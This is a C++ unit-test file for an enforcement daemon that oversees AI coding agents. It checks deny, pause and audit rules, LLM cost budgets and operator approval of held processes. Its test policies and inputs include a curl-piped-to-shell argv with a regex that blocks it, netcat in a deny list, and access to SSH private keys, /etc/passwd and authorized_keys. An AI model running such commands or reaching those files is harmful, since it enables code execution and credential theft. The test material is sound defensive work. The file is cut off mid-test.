#include <gtest/gtest.h>
#include <signal.h>
#include <simdjson.h>

#include <algorithm>
#include <array>
#include <cstring>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include "enforce/enforcer.h"
#include "enforce/policy_compiler.h"
#include "policy/policy_parser.h"

using namespace rein;
using enforce::Decision;
using enforce::Enforcer;
using enforce::Subject;

namespace {

constexpr uint64_t kSec = 1000000000ULL;
constexpr uint64_t kT0 = 1000 * kSec;

using Addr = std::array<uint8_t, 16>;

struct FakeActuator : enforce::Actuator {
  std::vector<std::pair<uint32_t, int>> signals;
  std::vector<std::pair<uint32_t, uint32_t>> blocks;
  std::vector<std::pair<Addr, uint16_t>> endpoints;
  std::vector<std::pair<rein_net_key, rein_rule>> networks;

  std::set<uint32_t> gone;  // pids that have exited: signals to them fail
  bool signal(uint32_t pid, int sig, uint64_t) override {
    signals.emplace_back(pid, sig);
    return !gone.count(pid);
  }
  // Holds: what began, the kernel's map, and what the persisted list last was.
  std::vector<std::pair<uint32_t, uint32_t>> begun;  // pid, rule
  std::vector<enforce::KernelHold> kernel;
  std::vector<enforce::Hold> saved;
  bool saved_default_allow = false;
  int maintained = 0;
  enforce::HoldStart begin_hold(uint32_t pid, uint32_t rule, uint64_t) override {
    begun.emplace_back(pid, rule);
    if (gone.count(pid)) return {false, false, "", 0};
    return {true, true, "seized (test)", 4242};
  }
  std::vector<enforce::KernelHold> kernel_holds() override { return kernel; }
  void holds_changed(const std::vector<enforce::Hold>& open, bool default_allow) override {
    saved = open;
    saved_default_allow = default_allow;
  }
  void maintain() override { maintained++; }
  void block_llm(uint32_t root, uint32_t budget_plus1) override { blocks.emplace_back(root, budget_plus1); }
  void add_llm_endpoint(const Addr& addr, uint16_t port) override { endpoints.emplace_back(addr, port); }
  void add_network_entry(const rein_net_key& key, const rein_rule& rule) override {
    networks.emplace_back(key, rule);
  }
};

policy::Policy parse(const std::string& yaml) {
  auto p = policy::parse_policy(yaml, "t.yaml");
  EXPECT_TRUE(p.ok()) << (p.ok() ? "" : p.error().message);
  if (!p.ok()) return policy::Policy{};
  return std::move(p).value();
}

Subject subject(uint32_t pid, uint32_t root, std::string name = "claude", std::string id = "",
                bool discovered = false) {
  Subject s;
  s.pid = pid;
  s.agent_root = root;
  s.agent_name = std::move(name);
  s.agent_id = id.empty() ? "sess-" + std::to_string(root) : std::move(id);
  s.discovered = discovered;
  return s;
}

Addr v4_mapped(uint8_t a, uint8_t b, uint8_t c, uint8_t d) {
  return {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, a, b, c, d};
}

Addr key_addr(const rein_net_key& k) {
  Addr a{};
  std::memcpy(a.data(), k.addr, 16);
  return a;
}

llm::LlmCall call(std::string provider, std::string model, double usd, int64_t out_tokens = 10) {
  llm::LlmCall c;
  c.provider = std::move(provider);
  c.api = "openai.chat";
  c.host = "api.example.com";
  c.request_model = model;
  c.response_model = std::move(model);
  c.usage.input_tokens = 5;
  c.usage.output_tokens = out_tokens;
  c.cost_usd = usd;
  return c;
}

const char* kAgents = R"(apiVersion: rein/v1
agents:
  - name: claude
    exe: [claude]
  - name: other
    exe: [other]
)";

bool has_signal(const FakeActuator& a, uint32_t pid, int sig) {
  for (const auto& [p, s] : a.signals)
    if (p == pid && s == sig) return true;
  return false;
}

}  // namespace

// ---------------------------------------------------------------- kernel decisions

TEST(EnforceEnforcer, FromKernelNamesRulesAndAllowScopes) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: protect-ssh
    action: deny
    file: {paths: ["/root/.ssh/**"]}
  - name: hold-nc
    action: pause
    exec: {paths: [nc]}
allow:
  - name: workspace-only
    otherwise: deny
    file: {paths: ["/work/**"]}
)"),
             act);
  auto who = subject(50, 40);
  auto d = e.from_kernel("file", 0, REIN_ACT_DENY, REIN_OUT_PREVENTED, "/root/.ssh/id_rsa", who, kT0);
  EXPECT_EQ(d.rule, "protect-ssh");
  EXPECT_EQ(d.kind, "file");
  EXPECT_EQ(d.action, "deny");
  EXPECT_EQ(d.outcome, "prevented");
  EXPECT_EQ(d.what, "/root/.ssh/id_rsa");
  EXPECT_EQ(d.pid, 50u);
  EXPECT_EQ(d.agent_root, 40u);
  EXPECT_EQ(d.hold_id, 0u);

  d = e.from_kernel("file", 2, REIN_ACT_DENY, REIN_OUT_KILLED, "/etc/x", who, kT0);
  EXPECT_EQ(d.rule, "workspace-only");
  EXPECT_EQ(d.outcome, "killed");

  d = e.from_kernel("file", 1, REIN_ACT_AUDIT, REIN_OUT_AUDITED, "/x", who, kT0);
  EXPECT_EQ(d.rule, "hold-nc");
  EXPECT_EQ(d.action, "audit");
  EXPECT_EQ(d.outcome, "alerted");

  // An index the policy does not have (a stale kernel map) still gets a name.
  d = e.from_kernel("file", 77, REIN_ACT_DENY, REIN_OUT_PREVENTED, "/x", who, kT0);
  EXPECT_NE(d.rule.find("77"), std::string::npos);
  d = e.from_kernel("file", ~0u, 200, 200, "/x", who, kT0);
  EXPECT_FALSE(d.rule.empty());
  EXPECT_EQ(e.holds(), 0u);

  // The kernel already stopped the process: user space only records the hold.
  d = e.from_kernel("exec", 1, REIN_ACT_PAUSE, REIN_OUT_PAUSED, "/usr/bin/nc", who, kT0);
  EXPECT_EQ(d.rule, "hold-nc");
  EXPECT_EQ(d.action, "pause");
  EXPECT_EQ(d.outcome, "paused");
  EXPECT_NE(d.hold_id, 0u);
  EXPECT_EQ(e.holds(), 1u);
  EXPECT_TRUE(act.signals.empty());
}

TEST(EnforceEnforcer, BudgetRefusalNamesTheBudget) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
budgets:
  - name: b0
    window: 1h
    usd: 1
    action: block-llm
)"),
             act);
  auto d = e.budget_refusal(0, "10.0.0.1:443", subject(5, 5));
  EXPECT_EQ(d.rule, "b0");
  EXPECT_EQ(d.kind, "budget");
  EXPECT_EQ(d.outcome, "prevented");
  d = e.budget_refusal(3, "x", subject(5, 5));
  EXPECT_NE(d.rule.find("3"), std::string::npos);
}

// ---------------------------------------------------------------- exec

namespace {
std::string argv_rule(const std::string& action) {
  return R"(apiVersion: rein/v1
rules:
  - name: pipe-to-shell
    action: )" +
         action + R"(
    exec:
      argv: ["curl .*\\| *(ba)?sh"]
)";
}
const std::vector<std::string> kPipeArgs{"curl", "-s", "https://x.sh", "|", "sh"};
}  // namespace

TEST(EnforceEnforcer, ExecArgvDenyKills) {
  FakeActuator act;
  Enforcer e(parse(argv_rule("deny")), act);
  auto out = e.on_exec(subject(300, 200), "/usr/bin/curl", kPipeArgs, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "pipe-to-shell");
  EXPECT_EQ(out[0].kind, "exec");
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_EQ(out[0].what, "/usr/bin/curl");
  ASSERT_EQ(act.signals.size(), 1u);
  EXPECT_EQ(act.signals[0], std::make_pair(300u, SIGKILL));

  // Not matching: nothing happens.
  out = e.on_exec(subject(301, 200), "/usr/bin/curl", {"curl", "https://x"}, kT0);
  EXPECT_TRUE(out.empty());
  EXPECT_EQ(act.signals.size(), 1u);
}

TEST(EnforceEnforcer, ExecArgvPauseStopsAndHolds) {
  FakeActuator act;
  Enforcer e(parse(argv_rule("pause")), act);
  auto out = e.on_exec(subject(300, 200), "/usr/bin/curl", kPipeArgs, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "paused");
  EXPECT_NE(out[0].hold_id, 0u);
  ASSERT_EQ(act.signals.size(), 1u);
  EXPECT_EQ(act.signals[0], std::make_pair(300u, SIGSTOP));
  EXPECT_EQ(e.holds(), 1u);
}

TEST(EnforceEnforcer, ExecArgvAuditOnlyAlerts) {
  FakeActuator act;
  Enforcer e(parse(argv_rule("audit")), act);
  auto out = e.on_exec(subject(300, 200), "/usr/bin/curl", kPipeArgs, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "alerted");
  EXPECT_EQ(out[0].action, "audit");
  EXPECT_TRUE(act.signals.empty());
  EXPECT_EQ(e.holds(), 0u);
}

TEST(EnforceEnforcer, ExecPathOnlyRulesAreTheKernels) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: no-nc
    action: deny
    exec: {paths: [nc, /usr/bin/curl]}
)"),
             act);
  EXPECT_TRUE(e.on_exec(subject(1, 1), "/usr/bin/nc", {"nc", "-l"}, kT0).empty());
  EXPECT_TRUE(e.on_exec(subject(2, 1), "/usr/bin/curl", {"curl"}, kT0).empty());
  EXPECT_TRUE(act.signals.empty());
}

TEST(EnforceEnforcer, ExecArgvAndPathMustBothMatchAndScopeApplies) {
  FakeActuator act;
  Enforcer e(parse(std::string(kAgents) + R"(rules:
  - name: r
    agents: [claude]
    action: deny
    exec:
      paths: [curl]
      argv: ["\\| *sh"]
)"),
             act);
  EXPECT_TRUE(e.on_exec(subject(1, 1), "/usr/bin/wget", {"wget", "|", "sh"}, kT0).empty());
  EXPECT_TRUE(e.on_exec(subject(2, 2, "other"), "/usr/bin/curl", kPipeArgs, kT0).empty());
  EXPECT_TRUE(e.on_exec(subject(3, 3, "claude", "", true), "/usr/bin/curl", kPipeArgs, kT0).empty());
  EXPECT_TRUE(act.signals.empty());
  EXPECT_EQ(e.on_exec(subject(4, 4), "/usr/bin/curl", kPipeArgs, kT0).size(), 1u);
  EXPECT_TRUE(has_signal(act, 4, SIGKILL));
}

// ---------------------------------------------------------------- files

TEST(EnforceEnforcer, FileGlobTheKernelCannotDoIsMatchedAfterTheFact) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: keys
    action: deny
    file: {paths: ["/w/*.key"], ops: [write, create]}
)"),
             act);
  auto who = subject(70, 60);
  EXPECT_TRUE(e.on_file(who, "write", "/w/sub/a.key", "", kT0).empty());
  EXPECT_TRUE(e.on_file(who, "write", "/w/a.keys", "", kT0).empty());
  EXPECT_TRUE(e.on_file(who, "unlink", "/w/a.key", "", kT0).empty());  // op not listed
  EXPECT_TRUE(e.on_file(who, "bogus-op", "/w/a.key", "", kT0).empty());
  EXPECT_TRUE(e.on_file(who, "", "/w/a.key", "", kT0).empty());
  EXPECT_TRUE(act.signals.empty());

  auto out = e.on_file(who, "write", "/w/a.key", "", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "keys");
  EXPECT_EQ(out[0].kind, "file");
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_EQ(out[0].what, "/w/a.key");
  ASSERT_EQ(act.signals.size(), 1u);
  EXPECT_EQ(act.signals[0], std::make_pair(70u, SIGKILL));
}

TEST(EnforceEnforcer, WorkspaceOnlyAllowList) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: unrelated
    action: audit
    exec: {paths: [nc]}
allow:
  - name: workspace-only
    otherwise: deny
    file: {paths: ["/work/**"]}
)"),
             act);
  auto who = subject(80, 80);
  EXPECT_TRUE(e.on_file(who, "write", "/work/src/main.cpp", "", kT0).empty());
  EXPECT_TRUE(e.on_file(who, "mkdir", "/work", "", kT0).empty());
  EXPECT_TRUE(act.signals.empty());

  auto out = e.on_file(who, "write", "/etc/passwd", "", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "workspace-only");
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_EQ(out[0].what, "/etc/passwd");
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{80u, SIGKILL}}));
  // "/workx" is not under "/work".
  EXPECT_EQ(e.on_file(who, "create", "/workx/a", "", kT0).size(), 1u);
}

TEST(EnforceEnforcer, RenameChecksBothPaths) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: ssh
    action: deny
    file: {paths: ["/root/.ssh/**"]}
allow:
  - name: workspace-only
    otherwise: audit
    file: {paths: ["/work/**"]}
)"),
             act);
  auto who = subject(90, 90);
  // Moving a file into the protected tree: the deny rule sees the new name.
  auto out = e.on_file(who, "rename", "/work/key", "/root/.ssh/authorized_keys", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "ssh");
  EXPECT_TRUE(has_signal(act, 90, SIGKILL));

  // Both names inside the allow-list: fine. Either outside: the allow-list's `otherwise`.
  EXPECT_TRUE(e.on_file(who, "rename", "/work/a", "/work/b", kT0).empty());
  out = e.on_file(who, "rename", "/work/a", "/tmp/b", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "workspace-only");
  EXPECT_EQ(out[0].outcome, "alerted");
  out = e.on_file(who, "rename", "/tmp/a", "/work/b", kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "workspace-only");
  EXPECT_EQ(act.signals.size(), 1u);
}

// ---------------------------------------------------------------- LLM rules and endpoints

TEST(EnforceEnforcer, LlmRuleOnProviderAndModelGlob) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
rules:
  - name: no-gpt5
    action: deny
    llm: {providers: [openai], models: ["gpt-5*"]}
)"),
             act);
  auto who = subject(11, 10);
  EXPECT_TRUE(e.on_llm(who, call("anthropic", "gpt-5", 0), "", 0, kT0).empty());
  EXPECT_TRUE(e.on_llm(who, call("openai", "gpt-4o", 0), "", 0, kT0).empty());
  EXPECT_TRUE(act.signals.empty());
  auto out = e.on_llm(who, call("openai", "GPT-5-mini", 0), "", 0, kT0);  // case-insensitive
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "no-gpt5");
  EXPECT_EQ(out[0].kind, "llm");
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_EQ(out[0].what, "openai/GPT-5-mini");
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{11u, SIGKILL}}));

  // The request asked for gpt-5 but the response names a dated variant: still matched.
  auto c = call("openai", "other-model", 0);
  c.request_model = "gpt-5";
  EXPECT_EQ(e.on_llm(who, c, "", 0, kT0).size(), 1u);
}

TEST(EnforceEnforcer, LlmPeersBecomeEndpointsOnce) {
  FakeActuator act;
  Enforcer e(parse("apiVersion: rein/v1\n"), act);
  auto who = subject(11, 10);
  e.on_llm(who, call("openai", "m", 0), "10.1.2.3", 443, kT0);
  e.on_llm(who, call("openai", "m", 0), "10.1.2.3", 443, kT0);
  e.on_llm(who, call("openai", "m", 0), "::ffff:10.1.2.3", 443, kT0);  // the same peer
  ASSERT_EQ(act.endpoints.size(), 1u);
  EXPECT_EQ(act.endpoints[0].first, v4_mapped(10, 1, 2, 3));
  EXPECT_EQ(act.endpoints[0].second, 443);

  e.on_llm(who, call("openai", "m", 0), "10.1.2.3", 8443, kT0);
  e.on_llm(who, call("openai", "m", 0), "2001:db8::1", 443, kT0);
  ASSERT_EQ(act.endpoints.size(), 3u);
  EXPECT_EQ(act.endpoints[1].first, v4_mapped(10, 1, 2, 3));
  EXPECT_EQ(act.endpoints[1].second, 8443);
  Addr v6{0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
  EXPECT_EQ(act.endpoints[2].first, v6);

  // Unknown or unparsable peers are not learned.
  e.on_llm(who, call("openai", "m", 0), "", 443, kT0);
  e.on_llm(who, call("openai", "m", 0), "10.1.2.4", 0, kT0);
  e.on_llm(who, call("openai", "m", 0), "not-an-address", 443, kT0);
  e.on_llm(who, call("openai", "m", 0), "010.1.2.3", 443, kT0);
  EXPECT_EQ(act.endpoints.size(), 3u);
}

// ---------------------------------------------------------------- budgets

TEST(EnforceEnforcer, BudgetExceededBlocksLlmEgressThenTheWindowFrees) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
budgets:
  - name: never
    window: 1h
    tokens: 1000000000
    action: alert
  - name: tight
    window: 1m
    usd: 1.0
    action: block-llm
)"),
             act);
  auto who = subject(21, 20);
  auto out = e.on_llm(who, call("openai", "m", 2.5), "", 0, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "tight");
  EXPECT_EQ(out[0].kind, "budget");
  EXPECT_EQ(out[0].action, "block-llm");
  EXPECT_EQ(out[0].outcome, "alerted");
  EXPECT_NE(out[0].detail.find("exceeded"), std::string::npos) << out[0].detail;
  EXPECT_EQ(out[0].agent_root, 20u);
  // Budget index 1 -> 2 in the kernel map (0 means not blocked).
  EXPECT_EQ(act.blocks, (std::vector<std::pair<uint32_t, uint32_t>>{{20u, 2u}}));
  EXPECT_TRUE(act.signals.empty());

  // Still inside the window: nothing changes.
  EXPECT_TRUE(e.tick(kT0 + 30 * kSec).empty());
  EXPECT_EQ(act.blocks.size(), 1u);

  auto freed = e.tick(kT0 + 2 * 60 * kSec);
  ASSERT_EQ(freed.size(), 1u);
  EXPECT_EQ(freed[0].rule, "tight");
  EXPECT_NE(freed[0].detail.find("window freed"), std::string::npos) << freed[0].detail;
  ASSERT_EQ(act.blocks.size(), 2u);
  EXPECT_EQ(act.blocks[1], std::make_pair(20u, 0u));
  // Reported once.
  EXPECT_TRUE(e.tick(kT0 + 3 * 60 * kSec).empty());
  EXPECT_EQ(act.blocks.size(), 2u);
}

TEST(EnforceEnforcer, PerNameBudgetBlocksNewSessionsAtOnce) {
  FakeActuator act;
  Enforcer e(parse(std::string(kAgents) + R"(budgets:
  - name: claude-total
    agents: [claude]
    per: name
    window: 1m
    usd: 1.0
    action: block-llm
)"),
             act);
  auto s1 = subject(101, 100, "claude", "sess-a");
  e.on_exec(s1, "/usr/bin/claude", {"claude"}, kT0);
  auto out = e.on_llm(s1, call("anthropic", "m", 0.6), "", 0, kT0);
  ASSERT_EQ(out.size(), 0u);  // 60%: below warn_at 0.8
  out = e.on_llm(s1, call("anthropic", "m", 0.6), "", 0, kT0 + kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_NE(out[0].detail.find("exceeded"), std::string::npos);
  EXPECT_EQ(act.blocks, (std::vector<std::pair<uint32_t, uint32_t>>{{100u, 1u}}));

  // Another agent name is not affected; a new claude session is blocked before it spends.
  e.on_exec(subject(301, 300, "other", "sess-o"), "/usr/bin/other", {"other"}, kT0 + 2 * kSec);
  EXPECT_EQ(act.blocks.size(), 1u);
  e.on_exec(subject(201, 200, "claude", "sess-b"), "/usr/bin/claude", {"claude"}, kT0 + 2 * kSec);
  ASSERT_EQ(act.blocks.size(), 2u);
  EXPECT_EQ(act.blocks[1], std::make_pair(200u, 1u));
  // A second exec in the same session does not block again.
  e.on_exec(subject(202, 200, "claude", "sess-b"), "/bin/sh", {"sh"}, kT0 + 3 * kSec);
  EXPECT_EQ(act.blocks.size(), 2u);

  auto freed = e.tick(kT0 + 3 * 60 * kSec);
  ASSERT_EQ(freed.size(), 1u);
  EXPECT_NE(freed[0].detail.find("window freed"), std::string::npos);
  std::vector<std::pair<uint32_t, uint32_t>> unblocked(act.blocks.begin() + 2, act.blocks.end());
  std::sort(unblocked.begin(), unblocked.end());
  EXPECT_EQ(unblocked, (std::vector<std::pair<uint32_t, uint32_t>>{{100u, 0u}, {200u, 0u}}));

  // After the window freed, new sessions start unblocked.
  e.on_exec(subject(401, 400, "claude", "sess-c"), "/usr/bin/claude", {"claude"}, kT0 + 4 * 60 * kSec);
  EXPECT_EQ(act.blocks.size(), 4u);
}

TEST(EnforceEnforcer, BudgetWarningReportedOnce) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
budgets:
  - name: b
    window: 1h
    usd: 10
    warn_at: 0.5
    action: block-llm
)"),
             act);
  auto who = subject(5, 5);
  EXPECT_TRUE(e.on_llm(who, call("openai", "m", 4), "", 0, kT0).empty());
  auto out = e.on_llm(who, call("openai", "m", 2), "", 0, kT0 + kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "b");
  EXPECT_NE(out[0].detail.find("warning"), std::string::npos) << out[0].detail;
  EXPECT_NE(out[0].detail.find("60%"), std::string::npos) << out[0].detail;
  EXPECT_TRUE(act.blocks.empty());
  EXPECT_TRUE(e.on_llm(who, call("openai", "m", 1), "", 0, kT0 + 2 * kSec).empty());
  EXPECT_TRUE(e.tick(kT0 + 3 * kSec).empty());
  out = e.on_llm(who, call("openai", "m", 3), "", 0, kT0 + 4 * kSec);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_NE(out[0].detail.find("exceeded"), std::string::npos);
  EXPECT_EQ(act.blocks.size(), 1u);
}

TEST(EnforceEnforcer, BudgetTokensCountInputAndOutput) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
budgets:
  - name: tok
    window: 1h
    tokens: 100
    action: kill
)"),
             act);
  auto who = subject(6, 5);
  EXPECT_TRUE(e.on_llm(who, call("openai", "m", 0, 40), "", 0, kT0).empty());  // 45 tokens
  auto out = e.on_llm(who, call("openai", "m", 0, 50), "", 0, kT0);           // 100: reached
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "killed");
  EXPECT_TRUE(has_signal(act, 5, SIGKILL));  // the agent's root
}

TEST(EnforceEnforcer, BudgetPauseHoldsTheStoppedProcess) {
  FakeActuator act;
  Enforcer e(parse(R"(apiVersion: rein/v1
budgets:
  - name: stop
    window: 1h
    usd: 1
    action: pause
)"),
             act);
  auto who = subject(7, 5);  // a child of the agent root made the call
  auto out = e.on_llm(who, call("openai", "m", 5), "", 0, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "paused");
  ASSERT_NE(out[0].hold_id, 0u);
  ASSERT_EQ(act.signals.size(), 1u);
  uint32_t stopped = act.signals[0].first;
  EXPECT_EQ(act.signals[0].second, SIGSTOP);
  // Approving must resume the very process that was stopped.
  auto [reply, ds] = e.control("approve " + std::to_string(out[0].hold_id), kT0 + kSec);
  ASSERT_EQ(ds.size(), 1u);
  ASSERT_EQ(act.signals.size(), 2u);
  EXPECT_EQ(act.signals[1], std::make_pair(stopped, SIGCONT));
}

TEST(EnforceEnforcer, PerNameBudgetPauseHoldsEverySession) {
  FakeActuator act;
  Enforcer e(parse(std::string(kAgents) + R"(budgets:
  - name: stop-all
    agents: [claude]
    per: name
    window: 1h
    usd: 1
    action: pause
)"),
             act);
  e.on_exec(subject(100, 100, "claude", "s1"), "/usr/bin/claude", {"claude"}, kT0);
  e.on_exec(subject(200, 200, "claude", "s2"), "/usr/bin/claude", {"claude"}, kT0);
  auto out = e.on_llm(subject(201, 200, "claude", "s2"), call("anthropic", "m", 2), "", 0, kT0);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].outcome, "paused");
  auto stopped = act.signals;
  std::sort(stopped.begin(), stopped.end());
  EXPECT_EQ(stopped, (std::vector<std::pair<uint32_t, int>>{{100u, SIGSTOP}, {200u, SIGSTOP}}));
  // Every stopped session can be resumed: one hold each, released at the timeout.
  EXPECT_EQ(e.holds(), 2u);
  act.signals.clear();
  e.tick(kT0 + 301 * kSec);  // default timeout 5m, default deny
  std::sort(act.signals.begin(), act.signals.end());
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{100u, SIGKILL}, {200u, SIGKILL}}));
}

// ---------------------------------------------------------------- holds via control

namespace {
const char* kPausePolicy = R"(apiVersion: rein/v1
rules:
  - name: hold-secret
    action: pause
    file: {paths: ["/secret/**"]}
holds:
  timeout: 10s
  default: deny
)";

struct JsonDoc {
  simdjson::dom::parser parser;
  simdjson::dom::element root;
  bool parse(const std::string& text) {
    return parser.parse(text).get(root) == simdjson::SUCCESS;
  }
  bool ok() const {
    bool v = false;
    return root["ok"].get(v) == simdjson::SUCCESS && v;
  }
};
}  // namespace

TEST(EnforceEnforcer, HoldsListedAsJson) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  auto who = subject(500, 400, "claude", "sess\"x\n");
  auto out = e.on_file(who, "write", "/secret/a \"b\"\\c\x01", "", kT0);
  ASSERT_EQ(out.size(), 1u);
  ASSERT_EQ(out[0].outcome, "paused");
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{500u, SIGSTOP}}));
  e.on_file(subject(501, 400), "write", "/secret/z", "", kT0 + kSec);

  auto [reply, ds] = e.control("holds", kT0 + 3 * kSec);
  EXPECT_TRUE(ds.empty());
  JsonDoc j;
  ASSERT_TRUE(j.parse(reply)) << reply;
  EXPECT_TRUE(j.ok());
  simdjson::dom::array holds;
  ASSERT_EQ(j.root["holds"].get(holds), simdjson::SUCCESS);
  ASSERT_EQ(holds.size(), 2u);
  simdjson::dom::element h0 = holds.at(0);
  uint64_t id = 0, pid = 0;
  std::string_view agent, rule, kind, what;
  double waiting = -1, timeout_in = -1;
  ASSERT_EQ(h0["id"].get(id), simdjson::SUCCESS);
  ASSERT_EQ(h0["pid"].get(pid), simdjson::SUCCESS);
  ASSERT_EQ(h0["agent"].get(agent), simdjson::SUCCESS);
  ASSERT_EQ(h0["rule"].get(rule), simdjson::SUCCESS);
  ASSERT_EQ(h0["kind"].get(kind), simdjson::SUCCESS);
  ASSERT_EQ(h0["what"].get(what), simdjson::SUCCESS);
  ASSERT_EQ(h0["waiting_s"].get(waiting), simdjson::SUCCESS);
  ASSERT_EQ(h0["timeout_in_s"].get(timeout_in), simdjson::SUCCESS);
  EXPECT_EQ(id, out[0].hold_id);
  EXPECT_EQ(pid, 500u);
  EXPECT_EQ(agent, "sess\"x\n");
  EXPECT_EQ(rule, "hold-secret");
  EXPECT_EQ(kind, "file");
  EXPECT_EQ(what, "/secret/a \"b\"\\c\x01");
  EXPECT_DOUBLE_EQ(waiting, 3.0);
  EXPECT_DOUBLE_EQ(timeout_in, 7.0);
  uint64_t id1 = 0;
  ASSERT_EQ(holds.at(1)["id"].get(id1), simdjson::SUCCESS);
  EXPECT_GT(id1, id);
  EXPECT_EQ(holds.at(1)["what"].get(what), simdjson::SUCCESS);
  EXPECT_EQ(what, "/secret/z");

  // Empty list after both are released.
  e.control("approve " + std::to_string(id), kT0);
  e.control("deny " + std::to_string(id1), kT0);
  auto [empty_reply, none] = e.control("holds", kT0);
  JsonDoc j2;
  ASSERT_TRUE(j2.parse(empty_reply)) << empty_reply;
  ASSERT_EQ(j2.root["holds"].get(holds), simdjson::SUCCESS);
  EXPECT_EQ(holds.size(), 0u);
}

TEST(EnforceEnforcer, HoldsJsonStaysValidForHostileBytes) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  // Paths come from the paused process: invalid UTF-8 must not break the reply.
  ASSERT_EQ(e.on_file(subject(1, 1), "write", "/secret/\xff\xfe\xc3", "", kT0).size(), 1u);
  auto [reply, ds] = e.control("holds", kT0);
  JsonDoc j;
  ASSERT_TRUE(j.parse(reply)) << reply;
  EXPECT_TRUE(j.ok());
  auto [bad, none] = e.control("approve \xff", kT0);
  ASSERT_TRUE(j.parse(bad)) << bad;
  EXPECT_FALSE(j.ok());
}

TEST(EnforceEnforcer, ApproveAndDenyByOperator) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  auto a = e.on_file(subject(600, 600), "write", "/secret/1", "", kT0);
  auto b = e.on_file(subject(601, 600), "write", "/secret/2", "", kT0);
  ASSERT_EQ(a.size(), 1u);
  ASSERT_EQ(b.size(), 1u);
  act.signals.clear();

  auto [r1, d1] = e.control("approve " + std::to_string(a[0].hold_id), kT0 + kSec);
  JsonDoc j;
  ASSERT_TRUE(j.parse(r1)) << r1;
  EXPECT_TRUE(j.ok());
  ASSERT_EQ(d1.size(), 1u);
  EXPECT_EQ(d1[0].outcome, "approved");
  EXPECT_EQ(d1[0].hold_id, a[0].hold_id);
  EXPECT_EQ(d1[0].what, "/secret/1");
  EXPECT_EQ(act.signals, (std::vector<std::pair<uint32_t, int>>{{600u, SIGCONT}}));

  auto [r2, d2] = e.control("deny " + std::to_string(b[0].hold_id), kT0 + kSec);
  ASSERT_TRUE(j.parse(r2)) << r2;
  EXPECT_TRUE(j.ok());
  ASSERT_EQ(d2.size(), 1u);
  EXPECT_EQ(d2[0].outcome, "denied");
  ASSERT_EQ(act.signals.size(), 2u);
  EXPECT_EQ(act.signals[1], std::make_pair(601u, SIGKILL));
  EXPECT_EQ(e.holds(), 0u);

  // A hold is decided once.
  auto [r3, d3] = e.control("approve " + std::to_string(a[0].hold_id), kT0 + kSec);
  ASSERT_TRUE(j.parse(r3)) << r3;
  EXPECT_FALSE(j.ok());
  EXPECT_TRUE(d3.empty());
  EXPECT_EQ(act.signals.size(), 2u);
}

TEST(EnforceEnforcer, BadControlRequestsAreRefused) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  ASSERT_EQ(e.on_file(subject(700, 700), "write", "/secret/1", "", kT0).size(), 1u);
  act.signals.clear();
  const std::vector<std::string> bad = {
      "approve 999", "deny 0", "approve ", "approve abc", "deny -1", "approve 1x",
      "garbage", "", "APPROVE 1", "holds please", "approve \"}\x01\\", "deny 18446744073709551616",
  };
  for (const auto& req : bad) {
    auto [reply, ds] = e.control(req, kT0);
    JsonDoc j;
    ASSERT_TRUE(j.parse(reply)) << "request '" << req << "' -> " << reply;
    EXPECT_FALSE(j.ok()) << req;
    std::string_view err;
    EXPECT_EQ(j.root["error"].get(err), simdjson::SUCCESS) << reply;
    EXPECT_TRUE(ds.empty()) << req;
  }
  EXPECT_TRUE(act.signals.empty());
  EXPECT_EQ(e.holds(), 1u);
}

TEST(EnforceEnforcer, HoldTimeoutAppliesDenyDefault) {
  FakeActuator act;
  Enforcer e(parse(kPausePolicy), act);
  ASSERT_EQ(e.on_file(subject(800, 800), "write", "/secret/1", "", kT0).size(), 1u);
  act.signals.clear();
